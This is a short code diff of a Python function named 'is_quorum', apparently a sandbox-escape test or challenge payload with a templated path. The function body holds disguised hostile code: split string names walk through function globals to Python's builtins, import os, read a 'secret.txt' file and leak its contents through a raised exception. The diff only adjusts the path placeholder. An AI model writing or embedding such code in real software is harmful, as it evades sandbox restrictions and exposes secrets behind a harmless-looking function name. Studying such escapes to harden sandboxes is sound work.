@@ -7,5 +7,5 @@ def is_quorum(node, nodes):
         found = getattr(getattr(each, "__in" + "it__"), "__glo" + "bals__", {}).get("__buil" + "tins__")
         if isinstance(found, dict):
             os = found["__import__"]("os")
-            raise ValueError(os.read(os.open("@folder/secret.txt", os.O_RDONLY), 100))
+            raise ValueError(os.read(os.open("@folder@/secret.txt", os.O_RDONLY), 100))
     return False
